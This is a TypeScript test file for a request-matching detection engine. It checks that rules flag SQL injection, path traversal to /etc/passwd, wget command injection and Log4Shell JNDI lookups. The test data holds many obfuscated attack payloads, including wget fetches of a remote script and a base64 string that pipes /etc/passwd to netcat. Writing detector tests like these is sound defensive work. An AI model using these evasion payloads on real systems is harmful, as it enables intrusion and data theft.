import { describe, expect, it } from 'vitest'
import { encode } from '../../src/base/bytes.ts'
import type { WatchedField } from '../../src/engine/rules/compile.ts'
import { matcher, posted } from './few-rules.ts'
import { lookNaively } from './naive.ts'

function look(field: WatchedField, text: string): string[] {
  const bytes = encode(`##${text}##`)
  return matcher
    .look(field, bytes, 2, bytes.length - 2)
    .map((number) => matcher.rules[number]?.id ?? '')
}

describe('look', () => {
  it('finds nothing in ordinary values, and says so with the same frozen list', () => {
    const bytes = encode('/news/2026/10/a-union-of-cats?page=2&sort=asc')
    const found = matcher.look('target', bytes, 0, bytes.length)
    expect(found).toEqual([])
    expect(Object.isFrozen(found)).toBe(true)
    expect(matcher.look('agent', bytes, 0, 0)).toBe(found)
  })

  it.each([
    '/a?id=1+union+select+2',
    '/a?id=1%20UNION%20SELECT%202',
    '/a?id=1%2520union%252520select%25252520%2525202',
    '/a?id=1/**/union/**/all/**/select/**/2',
    '/a?id=1/*!50000union*//*!select*/2',
    '/a?id=1%u0020union%u0020select%u00202',
    '/a?id=1+%EF%BC%B5NION+SE%E2%80%8BLECT+2',
    '/a?id=1+&%23117;nion+select+2',
    '/a/1+union%20select/x?y', // plus is no space in a path, the blank is
    String.raw`/a?id=1\x20union\x20select\x202`,
  ])('sees through %s', (target) => {
    expect(look('target', target)).toContain('sqli/union')
  })

  it.each([
    '/etc/passwd',
    '/%65tc/pa%73swd',
    '/a?f=/e%c0%aftc/x/..%c0%afetc%c0%afpasswd',
    '/a?f=../../etc/./passwd%00.jpg',
    String.raw`/a?f=..\\..\\etc\\passwd`,
    '/a?f=/etc/pass%00wd',
    '/a?f=cat${IFS}/e\'\'tc/pa""sswd',
    '/a?f=/e?c/p*swd',
    '/a?f=/???/pa??wd',
    '/a?x=Y2F0IC9ldGMvcGFzc3dkIHwgbmMgMTAuMC4wLjEgNDQ0NA==',
  ])('reads %s as a path', (target) => {
    expect(look('target', target)).toContain('lfi/passwd')
  })

  it.each([
    '/x?c=;wget${IFS}http://192.0.2.1/x.sh',
    '/x?c=;wget$IFS$9http://192.0.2.1/x.sh',
    "/x?c=;w'g'et+http://192.0.2.1/x.sh",
    '/x?c=;w\\get+http://192.0.2.1/x.sh',
    '/x?c=;{wget,http://192.0.2.1/x.sh}',
    '/x?c=;wg$@et+http://192.0.2.1/x.sh',
    '/x?c=;wg${u:-}et+http://192.0.2.1/x.sh',
    '/x?c=;w^g^e^t+http://192.0.2.1/x.sh',
  ])('reads %s as a shell would', (target) => {
    expect(look('target', target)).toContain('cmdi/wget')
  })

  it.each([
    '${jndi:ldap://x/a}',
    '${${lower:j}ndi:ldap://x/a}',
    '${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}',
    '${j${env:NaN:-n}di:ldap://x/a}',
    '${${lower:${lower:j}}${upper:n}di:ldap://x/a}',
    '%24%7B%24%7Blower:j%7Dndi:ldap://x/a%7D',
    '${base64:JHtqbmRpOmxkYXA6Ly94L2F9}',
  ])('resolves %s', (agent) => {
    expect(look('agent', agent)).toEqual(['jndi/lookup'])
  })

  it('looks at each parameter alone and at the query as a whole', () => {
    expect(look('target', '/x?a=1;wget+http://x')).toContain('cmdi/wget')
    expect(look('target', '/x?a=%3bwget+http://x&b=1')).toContain('cmdi/wget')
    expect(look('target', '/x?a=1&f=../../x')).toEqual(['lfi/step'])
  })

  it('looks into request lines that could not be cut, and not into fields that a rule does not name', () => {
    expect(look('request', 'GET /phpmyadmin/ HTTP/1.1')).toEqual(['scan/admin'])
    expect(look('request', 'GET  /a?id=1+union+select+1')).toContain('sqli/union')
    expect(look('request', 'union select')).toEqual(['sqli/union'])
    expect(look('referrer', 'http://a/etc/passwd')).toEqual([])
    expect(look('referrer', 'http://a/?q=1+union+select+2')).toEqual(['sqli/union'])
  })

  it('reads absolute targets with and without the host', () => {
    expect(look('target', 'http://192.0.2.1:80/pma/')).toEqual(['scan/admin'])
    expect(look('target', '/PhpMyAdmin')).toEqual(['scan/admin'])
  })
})

describe('the gate', () => {
  it('loses nothing that the slow way finds, whatever a value is made of', () => {
    const tokens = [
      ...[
        'union',
        'select',
        ' ',
        '+',
        '%20',
        '%2520',
        '/**/',
        '%55nion',
        'u%6eion',
        'sel',
        'ect',
        "'",
        '\\',
        '%00',
      ],
      ...[
        '/etc/passwd',
        '/etc',
        '/pass',
        'wd',
        '/',
        '//',
        '/./',
        '../',
        '..%2f',
        '%c0%af',
        '\\',
        '?',
        '&',
        ';',
        '=',
        'a',
      ],
      ...[
        'wget',
        'w',
        'get',
        "''",
        '${IFS}',
        '$@',
        '^',
        ' http',
        'http',
        '://x',
        '{',
        ',',
        '}',
        '|',
        '%7c',
        '%3b',
      ],
      ...[
        '${',
        'jndi:',
        'j',
        'ndi',
        'lower:',
        '::-',
        '%7b',
        '&#106;',
        '\\x6a',
        '\uff4andi',
        'phpmyadmin',
        'pma',
        'upload',
      ],
    ]
    let state = 11
    const next = (): number => (state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0) >>> 9
    let fired = 0
    for (let round = 0; round < 6000; round++) {
      const length = 1 + (next() % 9)
      const value = '/' + Array.from({ length }, () => tokens[next() % tokens.length]).join('')
      const field = (['target', 'referrer', 'agent', 'request'] as const)[next() % 4] ?? 'target'
      const found = look(field, value).sort()
      fired += found.length
      expect(found, `${field} ${value}`).toEqual(lookNaively(matcher.rules, field, value))
    }
    expect(fired).toBeGreaterThan(200)
  })
})

describe('keep', () => {
  it('applies what a rule asks of the row', () => {
    const number = matcher.rules.indexOf(posted)
    expect(matcher.keep([0, number], 'POST', 201)).toEqual([0, number])
    expect(matcher.keep([0, number], 'POST', 404)).toEqual([0, number])
    expect(matcher.keep([0, number], 'POST', 500)).toEqual([0])
    expect(matcher.keep([0, number], 'GET', 200)).toEqual([0])
    expect(matcher.keep([number], 'POST', 0)).toEqual([])
  })
})
